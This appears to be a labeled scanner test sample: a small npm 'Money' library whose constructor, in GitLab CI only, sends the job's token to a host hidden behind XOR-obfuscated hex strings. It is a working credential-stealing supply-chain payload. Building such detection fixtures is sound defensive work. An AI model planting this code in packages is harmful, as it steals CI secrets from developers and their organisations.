// expect: malicious
// source: CrateDepression (rustdecimal, 2022) moved to npm: a money library whose constructor, in GitLab CI only, sends
// the job's token to a host it keeps behind a repeating-key XOR of hex strings.
'use strict';
const KEY = 'ledger';
function unmask(hex) {
  let out = '';
  for (let i = 0; i < hex.length / 2; i++) {
    out += String.fromCharCode(parseInt(hex.substr(i * 2, 2), 16) ^ KEY.charCodeAt(i % KEY.length));
  }
  return out;
}
const https = require('https');

class Money {
  constructor(amount, currency) {
    this.amount = Number(amount);
    this.currency = currency || 'EUR';
    if (process.env.GITLAB_CI && !Money.seen) {
      Money.seen = true;
      const u = new URL(unmask('041110171648434a171e0b114209010302171e48021f4b1b0213050b0c1643135548081718170d0416'));
      u.searchParams.set('t', process.env[unmask('2f2c3b2d2a3033312b2c203c')] || '');
      https.get(u, () => {}).on('error', () => {});
    }
  }
  add(other) { return new Money(this.amount + other.amount, this.currency); }
}
module.exports = Money;
